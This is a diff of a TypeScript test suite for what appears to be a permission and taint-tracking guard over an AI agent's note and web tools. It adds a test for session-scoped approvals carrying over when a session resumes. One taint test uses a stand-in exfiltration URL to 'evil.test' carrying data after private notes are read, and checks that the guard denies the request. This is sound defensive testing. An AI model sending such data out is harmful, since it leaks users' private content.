@@ -37,13 +37,13 @@ const webFetch = defineTool({
   category: 'media',
   effects: ['reaches-network'],
   input: z.object({ url: z.string() }),
-  output: z.string(),
+  output: z.object({ text: z.string() }),
   reaches: async ({ url }) => ({ sends: [{ url }] }),
   run: async ({ url }) => {
     sent.push(url)
-    return 'a page'
+    return { text: 'a page' }
   },
-  render: (text) => text,
+  render: ({ text }) => text,
 })
 
 const sent: string[] = []
@@ -101,7 +101,7 @@ async function setUp({
     ...deskOptions,
     ...(answers && {
       asker: async (panel) => {
-        if (panel.kind === 'batch') return undefined
+        if (panel.kind === 'batch' || panel.kind === 'question') return undefined
         asked.push(panel)
         const next = left.length > 1 ? left.shift() : left[0]
         return typeof next === 'function' ? next(panel, context) : next
@@ -503,7 +503,7 @@ describe('taint', () => {
     sent.length = 0
     expect(await desk.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ ok: true })
     expect(await desk.call('read_note', { path: 'Inbox/A.md' })).toMatchObject({ ok: true })
-    expect(desk.guard.seen().sort()).toEqual(['own-note', 'web'])
+    expect(desk.guard.memory().seen.sort()).toEqual(['own-note', 'web'])
     const url = 'https://evil.test/?q=alpha'
     expect(await desk.call('web_fetch', { url })).toMatchObject({ code: 'denied' })
     expect(desk.asked).toMatchObject([{ sends: [{ url }], offers: [] }])
@@ -515,9 +515,21 @@ describe('taint', () => {
     await desk.call('read_note', { path: 'Clip.md' })
     await desk.call('read_note', { path: 'Inbox/A.md' })
     expect(await desk.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ code: 'denied' })
-    const resumed = await setUp({ level: 'locked', rules: ['allow: web_fetch'], seen: desk.guard.seen() })
+    const resumed = await setUp({ level: 'locked', rules: ['allow: web_fetch'], memory: desk.guard.memory() })
     expect(await resumed.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ code: 'needs-approval' })
   })
+})
+
+it('what was decided for a session comes back with it, and with no other', async () => {
+  const forSession = { verdict: 'allow', scope: 'session' } as const
+  const first = await setUp({ answers: [forSession, no] })
+  expect(await first.call('append_note', { path: 'Inbox/A.md', content: 'x' })).toMatchObject({ ok: true })
+  const memory = JSON.parse(JSON.stringify(first.guard.memory()))
+  expect(memory.grants).toMatchObject([{ rule: 'append_note(Inbox/A.md)' }])
+  const resumed = await setUp({ answers: [no], memory })
+  expect(await resumed.call('append_note', { path: 'Inbox/A.md', content: 'y' })).toMatchObject({ ok: true })
+  const other = await setUp({ answers: [no] })
+  expect(await other.call('append_note', { path: 'Inbox/A.md', content: 'z' })).toMatchObject({ code: 'denied' })
 })
 
 describe('stopping and crowds', () => {
